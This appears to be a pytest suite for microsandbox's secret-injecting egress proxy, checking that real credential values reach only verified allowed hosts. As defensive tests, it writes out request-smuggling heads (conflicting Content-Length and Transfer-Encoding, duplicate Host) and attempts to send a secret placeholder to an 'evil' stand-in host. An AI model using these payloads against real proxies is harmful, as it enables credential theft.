# Copyright 2026 The microsandbox authors
# SPDX-License-Identifier: Apache-2.0
"""Secrets at egress against real HTTPS servers: who gets the value, who gets the placeholder, and that
nobody else sees either. The guest is a network namespace (test_network_policy.py says why)."""
import base64
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

import pytest

from conftest import BUILD

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(__file__)), "support", "network"))
from control_program import translate  # noqa: E402
from secret_servers import GIT_PASSWORD  # noqa: E402
from secret_world import API, EVIL, SecretWorld  # noqa: E402
from secrets_process import Secret, SecretsProcess  # noqa: E402
from world import WEB2  # noqa: E402

NET, SECRETS = str(BUILD / "network/msb-net"), str(BUILD / "network/msb-secrets")
VALUE, OTHER = b"sk-live-0123456789abcdef/+&=", b"other-value-0123456789"
PORTS = (8443, 8444, 8445, 8446, 8447, 8448, 8449)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    world = SecretWorld(tmp_path_factory.mktemp("secrets"), NET)
    yield world
    world.close()


class Setup:
    """A guest with two secrets, and what it needs to use them."""

    def __init__(self, world, limits=""):
        self.token = Secret("TOKEN", VALUE, [f"{API}:{port}" for port in PORTS])
        self.git = Secret("GIT", GIT_PASSWORD.encode(), [f"{API}:8443"])
        self.other = Secret("OTHER", OTHER, ["nowhere.example.com:8443"])
        secrets = [self.token, self.git, self.other]
        self.process = SecretsProcess(SECRETS, world.directory / "ca.crt", secrets, limits)
        self.guest = world.guest("public", secrets=SecretsProcess.spec(secrets))
        self.process.connect(self.guest)
        self.bundle = world.directory / f"bundle-{self.process.process.pid}.pem"
        self.bundle.write_text(self.process.certificate + (world.directory / "ca.crt").read_text())

    def curl(self, *arguments, expect=0):
        done = self.guest.run("curl", "-sS", "--max-time", "20", "--cacert", self.bundle, *arguments)
        assert done.returncode == expect, (done.returncode, done.stdout[-500:], done.stderr[-500:])
        return done.stdout

    def echo(self, *arguments, path="/", port=8443):
        return json.loads(base64.b64decode(
            self.curl(*arguments, f"https://{API}:{port}{path}")))

    def python(self, code, *arguments):
        done = self.guest.run(sys.executable, "-c", code, *map(str, arguments))
        assert done.returncode == 0, done.stderr[-2000:].decode()
        return done.stdout

    def close(self):
        self.guest.close()
        self.process.close()


@pytest.fixture(name="setup", scope="module")
def setup_fixture(world):
    setup = Setup(world)
    yield setup
    setup.close()


def header(told, name):
    return next((value for key, value in told["headers"] if key.lower() == name.lower()), None)


def test_a_header_a_query_and_basic_authentication_carry_the_value(setup):
    mark = setup.token.placeholder
    told = setup.echo("-H", f"Authorization: Bearer {mark}", "-H", f"X-Twice: {mark},{mark}",
                      path=f"/?key={mark}&other=1")
    assert header(told, "Authorization") == f"Bearer {VALUE.decode()}"
    assert header(told, "X-Twice") == f"{VALUE.decode()},{VALUE.decode()}"
    assert told["path"] == "/?key=sk-live-0123456789abcdef%2F%2B%26%3D&other=1"
    told = setup.echo("-u", f"user:{mark}")
    assert header(told, "Authorization") == (
        "Basic " + base64.b64encode(b"user:" + VALUE).decode())


@pytest.mark.parametrize("kind, spelled", [
    ("application/json", '{"key": "sk-live-0123456789abcdef/+&="}'),
    ("application/x-www-form-urlencoded", '{"key": "sk-live-0123456789abcdef%2F%2B%26%3D"}'),
    ("application/octet-stream", None),
])
def test_bodies_that_are_text_carry_it_too(setup, kind, spelled):
    body = json.dumps({"key": setup.token.placeholder})
    spelled = spelled or body
    for chunked in ([], ["-H", "Transfer-Encoding: chunked"]):
        told = setup.echo("-H", f"Content-Type: {kind}", *chunked, "-d", body)
        assert told["body"] == spelled
    # The client waits for the server's word: nothing holds the head back, and the body stays as it is
    # unless it comes in chunks.
    told = setup.echo("-H", f"Content-Type: {kind}", "-H", "Expect: 100-continue", "-d", body)
    assert told["body"] == body


def test_many_requests_on_one_connection_and_a_large_body(setup, tmp_path):
    large = tmp_path / "large"
    large.write_bytes(os.urandom(3 << 20))
    urls = [f"https://{API}:8443/quiet/{number}" for number in range(20)]
    out = setup.curl("-H", f"X-Key: {setup.token.placeholder}", "-w", "%{num_connects}\n", *urls)
    assert b"".join(line[-1:] for line in out.splitlines()).count(b"1") == 1
    assert setup.curl("-H", "Content-Type: application/octet-stream", "--data-binary", f"@{large}",
                      f"https://{API}:8443/quiet/large")
    seen = setup.echo(path="/seen")
    assert {header(told, "X-Key") for told in seen if told["path"] != "/quiet/large"} == {
        VALUE.decode()}
    assert seen[-1]["body"].encode("latin-1") == large.read_bytes()


def test_what_the_host_repeats_is_masked(setup):
    out = setup.curl("-H", f"X-Key: {setup.token.placeholder}", "-u", f"user:{setup.git.placeholder}",
                     f"https://{API}:8443/plain").decode()
    assert json.loads(out) and VALUE.decode() not in out
    assert f'"{"*" * len(VALUE)}"' in out
    assert base64.b64encode(f"user:{GIT_PASSWORD}".encode()).decode() not in out


def test_node_believes_the_authority_by_its_variable(setup):
    if shutil.which("node") is None:
        pytest.skip("no node on this host")
    code = ("require('https').get({host:process.argv[1],port:8443,path:'/',"
            "headers:{'X-Key':process.argv[2]}},r=>{let d='';r.on('data',c=>d+=c);"
            "r.on('end',()=>console.log(d))})")
    done = setup.guest.run("env", f"NODE_EXTRA_CA_CERTS={setup.bundle}", "node", "-e", code, API,
                           setup.token.placeholder)
    assert done.returncode == 0, done.stderr
    assert header(json.loads(base64.b64decode(done.stdout)), "X-Key") == VALUE.decode()


def test_python_and_git_believe_the_authority(setup, tmp_path):
    code = ("import urllib.request,ssl,sys\n"
            "r=urllib.request.Request(sys.argv[1],headers={'X-Key':sys.argv[3]})\n"
            "print(urllib.request.urlopen(r,context=ssl.create_default_context(cafile=sys.argv[2]))"
            ".read().decode())")
    out = setup.python(code, f"https://{API}:8443/", setup.bundle, setup.token.placeholder)
    assert header(json.loads(base64.b64decode(out)), "X-Key") == VALUE.decode()
    clone = tmp_path / "clone"
    done = setup.guest.run(
        "env", f"GIT_SSL_CAINFO={setup.bundle}", "GIT_TERMINAL_PROMPT=0", "git", "clone", "-q",
        f"https://user:{setup.git.placeholder}@{API}:8443/repository", clone)
    assert done.returncode == 0, done.stderr
    assert (clone / "file").read_text() == "of the repository\n"
    assert setup.git.placeholder in (clone / ".git/config").read_text()


RAW = r"""
import base64, socket, ssl, sys, time
name, port, bundle, address, *pieces = sys.argv[1:]
s = socket.create_connection((address if address != "-" else name, int(port)), timeout=15)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
t = ssl.create_default_context(cafile=bundle).wrap_socket(s, server_hostname=name)
for piece in pieces:
    t.sendall(base64.b64decode(piece))
out = b""
try:
    while True:
        part = t.recv(65536)
        if not part: break
        out += part
except (TimeoutError, ssl.SSLError, OSError) as error:
    out += b"\n<" + type(error).__name__.encode() + b">"
sys.stdout.buffer.write(out)
"""


def raw(setup, pieces, port=8448, name=API, address="-"):
    encoded = [base64.b64encode(piece).decode() for piece in pieces]
    return setup.python(RAW, name, port, setup.bundle, address, *encoded)


def sent(setup, *pieces):
    """What 8448 got of a request in pieces, each a TLS record of its own."""
    return base64.b64decode(raw(setup, pieces).split(b"\r\n\r\n", 1)[1])


def test_a_placeholder_split_over_records_is_one(setup):
    request = (f"GET /?a={setup.token.placeholder} HTTP/1.1\r\nHost: {API}:8448\r\n"
               f"X: {setup.token.placeholder}\r\n\r\n").encode()
    whole = sent(setup, request)
    assert whole.count(b"sk-live") == 2 and b"msbsecret" not in whole
    assert sent(setup, *[request[i:i + 1] for i in range(len(request))]) == whole
    body = setup.token.placeholder.encode()
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"
    got = sent(setup, (f"POST / HTTP/1.1\r\nHost: {API}:8448\r\nContent-Type: text/plain\r\n"
                       "Transfer-Encoding: chunked\r\n\r\n").encode() + chunks)
    assert got.endswith(b"%x\r\n%s\r\n0\r\n\r\n" % (len(VALUE), VALUE))


def test_another_host_in_the_request_gets_the_placeholder(setup):
    mark = setup.token.placeholder
    for start, host in (("GET / HTTP/1.1", EVIL), (f"GET https://{EVIL}/ HTTP/1.1", f"{API}:8448"),
                        ("GET / HTTP/1.1", f"{API}:443"), ("GET / HTTP/1.1", f"{API}.evil.org")):
        got = sent(setup, f"{start}\r\nHost: {host}\r\nX: {mark}\r\n\r\n".encode())
        assert mark.encode() in got and VALUE not in got


@pytest.mark.parametrize("head", [
    "GET / HTTP/1.1\r\nHost: {api}\r\nHost: evil.org\r\nX: {mark}\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {api}\r\nContent-Length: 4\r\nContent-Length: 5\r\nX: {mark}\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {api}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{mark}",
    "POST / HTTP/1.1\r\nHost: {api}\r\nTransfer-Encoding: chunked, identity\r\nX: {mark}\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {api}\r\nTransfer-Encoding : chunked\r\nX: {mark}\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {api}\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n{mark}",
    "POST / HTTP/1.1\r\nHost: {api}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabc\r\n{mark}",
    "GET / HTTP/1.1\r\nHost: {api}\r\nX: a\r\n folded {mark}\r\n\r\n",
    "GET / HTTP/1.1\nHost: {api}\nX: {mark}\n\n",
    "GET /a b HTTP/1.1\r\nHost: {api}\r\nX: {mark}\r\n\r\n",
    "GET / HTTP/2.0\r\nHost: {api}\r\nX: {mark}\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{mark}",
    "GET / HTTP/1.1\r\nHost: {api}\r\nX: a\x00b{mark}\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {api}\r\nX: {long}{mark}\r\n\r\n",
])
def test_what_two_servers_could_read_in_two_ways_is_refused(setup, head):
    request = head.format(api=f"{API}:8448", mark=setup.token.placeholder, long="x" * 70000)
    out = raw(setup, [request.encode()])
    assert out.startswith(b"HTTP/1.1 400 ") and b"microsandbox:" in out, out[:300]


def test_an_upgraded_connection_passes_as_it_is(setup):
    mark = setup.token.placeholder
    head = (f"GET / HTTP/1.1\r\nHost: {API}:8443\r\nUpgrade: test\r\nConnection: Upgrade\r\n"
            f"Authorization: Bearer {mark}\r\n\r\n")
    code = RAW.replace("for piece in pieces:", "t.settimeout(3)\nfor piece in pieces:")
    encoded = [base64.b64encode(piece).decode() for piece in (head.encode(), f"{mark}\n".encode())]
    out = setup.python(code, API, 8443, setup.bundle, "-", *encoded)
    assert b" 101 " in out and f"heard {mark}\n".encode() in out


@pytest.mark.parametrize("port, why", [(8444, b"hostname mismatch"), (8445, b"self-signed"),
                                       (8446, b"connection"), (8449, b"hostname mismatch")])
def test_a_host_that_cannot_prove_its_name_gets_nothing(setup, port, why):
    out = raw(setup, [f"GET / HTTP/1.1\r\nHost: {API}\r\n\r\n".encode()], port=port)
    assert out.startswith(b"HTTP/1.1 502 "), out
    assert why in out.lower(), out


def test_a_hostile_answer_costs_no_memory(setup):
    setup.curl("-o", "/dev/null", f"https://{API}:8447/", expect=56)  # curl: too large a head
    with open(f"/proc/{setup.process.process.pid}/statm", encoding="ascii") as statm:
        assert int(statm.read().split()[1]) * 4096 < 64 << 20


def test_only_http_1_is_offered(setup):
    code = ("import socket,ssl,sys\n"
            "c=ssl.create_default_context(cafile=sys.argv[1]);c.set_alpn_protocols(sys.argv[3:])\n"
            "s=socket.create_connection((sys.argv[2],8443))\n"
            "try:\n t=c.wrap_socket(s,server_hostname=sys.argv[2]);print(t.selected_alpn_protocol())\n"
            " if t.selected_alpn_protocol() is None: t.recv(1)\n"
            "except ssl.SSLError as e: print(e)")
    assert setup.python(code, setup.bundle, API, "h2", "http/1.1").split() == [b"http/1.1"]
    client, wait = setup.guest.watch()
    with client:
        began = time.monotonic()
        refused = setup.python(code, setup.bundle, API, "h2")
        assert time.monotonic() - began < 10, "a client that has to be refused does not wait"
        # In words: whether a Python has a name for this alert depends on what it was built against.
        assert b"no application protocol" in refused.lower().replace(b"_", b" "), refused
        event = wait("KIND_FAILED", "no HTTP/1.1 is offered (ALPN)")
        assert f'name: "{API}"' in event and "destination" in event


def test_a_forged_name_or_address_gets_no_value(world, setup):
    mark = setup.token.placeholder
    request = f"GET / HTTP/1.1\r\nHost: {API}:8448\r\nX: {mark}\r\n\r\n".encode()
    # The name of the allowed host, at an address that it never had.
    done = setup.guest.run("curl", "-sS", "--max-time", "20", "--cacert", setup.bundle, "--resolve",
                           f"{API}:8443:{WEB2}", "-H", f"X: {mark}", f"https://{API}:8443/")
    assert done.returncode == 35 and b"reset" in done.stderr.lower(), done
    # Another name at the allowed host's address: passed as it is, the server's own certificate and all.
    out = raw(setup, [request], name="example.com", address=API)
    assert mark.encode() in base64.b64decode(out.split(b"\r\n\r\n", 1)[1])
    # A host that no secret goes to.
    told = json.loads(base64.b64decode(setup.curl("-H", f"X: {mark}", f"https://{EVIL}:8443/")))
    assert header(told, "X") == mark


def test_a_name_that_moves_keeps_its_secret_and_its_old_address_too(world, setup):
    names = json.loads(world.names.read_text())
    assert header(setup.echo("-H", f"X: {setup.token.placeholder}"), "X") == VALUE.decode()
    world.set_names(names | {API: [WEB2]})
    try:
        assert header(setup.echo("-H", f"X: {setup.token.placeholder}"), "X") == VALUE.decode()
    finally:
        world.set_names(names)


def test_each_use_is_an_event_and_no_event_has_a_value(setup):
    mark, other = setup.token.placeholder, setup.other.placeholder
    client, wait = setup.guest.watch()
    with client:
        setup.echo("-H", f"X: {mark}")
        used = wait("KIND_SECRET_USED", 'secret: "TOKEN"')
        assert f'name: "{API}"' in used
        told = setup.echo("-H", f"X: {other}")
        assert header(told, "X") == other
        assert "may not go to" in wait("KIND_SECRET_WITHHELD", 'secret: "OTHER"')
        setup.guest.run("curl", "-sS", "-H", f"X: {mark}", "http://example.com/")
        assert "in the clear" in wait("KIND_SECRET_WITHHELD", 'secret: "TOKEN"')
        raw(setup, [f"GET / HTTP/1.1\r\nHost: {EVIL}\r\nX: {mark}\r\n\r\n".encode()])
        assert "another host" in wait("KIND_SECRET_WITHHELD", 'secret: "TOKEN"')
        raw(setup, [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"], port=8445)
        event = wait("KIND_FAILED", "certificate")
        assert VALUE.decode() not in event


def test_values_change_and_go_while_it_runs(setup):
    changed = Secret("TOKEN", b"a-new-value-0123456789", setup.token.hosts)
    changed.placeholder = setup.token.placeholder
    try:
        setup.process.set([changed])
        assert header(setup.echo("-H", f"X: {changed.placeholder}"), "X") == "a-new-value-0123456789"
        setup.process.set([])
        done = setup.guest.run("curl", "-sS", "--cacert", setup.bundle, f"https://{API}:8443/")
        assert done.returncode != 0
    finally:
        setup.process.set([setup.token, setup.git, setup.other])
    assert header(setup.echo("-H", f"X: {setup.token.placeholder}"), "X") == VALUE.decode()


def test_nothing_of_a_secret_is_outside_of_its_process(setup):
    setup.echo("-H", f"X: {setup.token.placeholder}")
    pid = setup.process.process.pid
    for path in ("environ", "cmdline"):
        with open(f"/proc/{pid}/{path}", "rb") as file:
            assert VALUE not in file.read()
    assert VALUE.decode() not in setup.process.log_text() + setup.guest.log_text()
    # Not dumpable: what /proc has of it is root's, whatever its user.
    assert os.stat(f"/proc/{pid}/mem").st_uid == 0
    with open(f"/proc/{pid}/limits", encoding="ascii") as limits:
        core = next(line for line in limits if line.startswith("Max core file size"))
    assert core.split()[4:6] == ["0", "0"]
    with open(f"/proc/{setup.guest.process.pid}/maps", encoding="ascii") as maps, open(
            f"/proc/{setup.guest.process.pid}/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or "[v" in line:
                continue
            memory.seek(begin)
            try:
                assert VALUE not in memory.read(end - begin), "msb-net has the value"
            except OSError:
                pass


def test_msb_secrets_that_dies_takes_only_its_hosts_along(world):
    setup = Setup(world)
    try:
        client, wait = setup.guest.watch()
        with client:
            setup.process.process.kill()
            setup.process.process.wait()
            done = setup.guest.run("curl", "-sS", "--max-time", "20", "--cacert", setup.bundle,
                                   f"https://{API}:8443/")
            assert done.returncode in (35, 56), done
            assert "msbctl net restart" in wait("KIND_FAILED")
            assert setup.curl(f"https://{EVIL}:8443/")
        again = SecretsProcess(SECRETS, world.directory / "ca.crt", setup.process.secrets)
        setup.process.close()
        setup.process = again
        again.connect(setup.guest)
        setup.bundle.write_text(again.certificate)
        assert header(setup.echo("-H", f"X: {setup.token.placeholder}"), "X") == VALUE.decode()
    finally:
        setup.close()


@contextlib.contextmanager
def limited(world, limits):
    """A guest of its own whose secrets have these limits, and what waits for an event."""
    setup = Setup(world, limits)
    client, wait = setup.guest.watch()
    try:
        yield setup, wait
    finally:
        client.close()
        setup.close()


def test_connections_at_once_are_bounded(world):
    hold = ("import socket,ssl,sys\n"
            "c=ssl.create_default_context(cafile=sys.argv[1])\n"
            "s=socket.create_connection((sys.argv[2],8443))\n"
            "t=c.wrap_socket(s,server_hostname=sys.argv[2])\n"
            "print('open',flush=True);sys.stdin.read()")
    with limited(world, "max_connections: 1") as (setup, wait):
        held = setup.guest.popen(sys.executable, "-c", hold, str(setup.bundle), API,
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        assert held.stdout.readline() == b"open\n"
        assert setup.guest.run("curl", "-sS", "--max-time", "20", "--cacert", setup.bundle,
                               f"https://{API}:8443/").returncode in (35, 56)
        wait("KIND_FAILED", "[secrets] max_connections")
        held.communicate()


def test_heads_bodies_and_handshakes_are_bounded(world):
    silent = ("import socket,ssl,sys\n"
              "said,heard=ssl.MemoryBIO(),ssl.MemoryBIO()\n"
              "c=ssl.create_default_context()\n"
              "t=c.wrap_bio(heard,said,server_hostname=sys.argv[1])\n"
              "try: t.do_handshake()\n"
              "except ssl.SSLWantReadError: pass\n"
              "s=socket.create_connection((sys.argv[1],8443));s.sendall(said.read())\n"
              "try:\n while s.recv(65536): pass\n"
              "except OSError: pass")
    limits = "handshake_ms: 3000 max_head_bytes: 400 max_body_bytes: 0"
    with limited(world, limits) as (setup, wait):
        mark = setup.token.placeholder
        told = setup.echo("-H", "Content-Type: text/plain", "-H", f"X: {mark}", "-d", mark)
        assert header(told, "X") == VALUE.decode() and told["body"] == mark
        large = f"GET / HTTP/1.1\r\nHost: {API}:8448\r\nX: {'x' * 400}\r\n\r\n"
        out = raw(setup, [large.encode()])
        assert out.startswith(b"HTTP/1.1 400 ") and b"[secrets] max_head_kib" in out
        setup.python(silent, API)
        wait("KIND_FAILED", "[secrets] handshake_timeout")


def test_the_end_of_the_machine_is_the_end_of_its_secrets(world):
    process = SecretsProcess(SECRETS, world.directory / "ca.crt", [])
    process.lifetime.close()
    assert process.process.wait(timeout=10) == 0
    process.close()


def test_a_hostile_hand_over_gets_nothing(setup, world):
    """Who has taken msb-net over may hand anything over: it gets TLS with whom it names, or nothing."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    with ours:
        setup.process.ask("connect {}", theirs.fileno())
        theirs.close()
        try:
            ours.send(b"\xff" * 100)
            ours.send(translate("--encode", "HandOver", b'flow: 1 name: "api.example.com" port: 8443',
                                "secrets"))
            attacker, to_attacker = socket.socketpair()
            fake, to_fake = socket.socketpair()
            for name, answer in (("evil.org", "no secret may go there"), (API, None)):
                packet = translate("--encode", "HandOver",
                                   f'flow: 2 name: "{name}" port: 8443'.encode(), "secrets")
                socket.send_fds(ours, [packet], [to_attacker.fileno(), to_fake.fileno()])
                ours.settimeout(20)
                if answer:
                    notice = translate("--decode", "SecretNotice", ours.recv(2000), "secrets")
                    assert answer in notice.decode()
            attacker.sendall(b"no TLS at all\r\n\r\n")
            notice = translate("--decode", "SecretNotice", ours.recv(2000), "secrets").decode()
            assert "wrong version number" in notice
            to_attacker.close()
            to_fake.close()
            attacker.settimeout(20)
            try:
                assert attacker.recv(1000)[:1] in (b"", b"\x15")  # an alert, or the end
            except ConnectionResetError:
                pass
            attacker.close()
            fake.close()
        finally:
            setup.process.connect(setup.guest)
    assert header(setup.echo("-H", f"X: {setup.token.placeholder}"), "X") == VALUE.decode()


def test_a_thousand_requests_leave_nothing_behind(setup):
    code = ("import http.client,ssl,sys\n"
            "c=ssl.create_default_context(cafile=sys.argv[1])\n"
            "for i in range(int(sys.argv[4])):\n"
            " h=http.client.HTTPSConnection(sys.argv[2],8443,context=c)\n"
            " h.request('GET','/quiet',headers={'X':sys.argv[3]});assert h.getresponse().read()\n"
            " h.close()")

    def use(count):
        setup.python(code, setup.bundle, API, setup.token.placeholder, count)

    def descriptors():
        return len(os.listdir(f"/proc/{setup.process.process.pid}/fd"))

    def resident():
        with open(f"/proc/{setup.process.process.pid}/statm", encoding="ascii") as statm:
            return int(statm.read().split()[1]) * 4096

    use(50)
    before = descriptors(), resident()
    threads = [threading.Thread(target=use, args=(240,)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    setup.echo()  # behind the last one's end
    assert descriptors() <= before[0] + 2
    assert resident() < before[1] + (8 << 20)
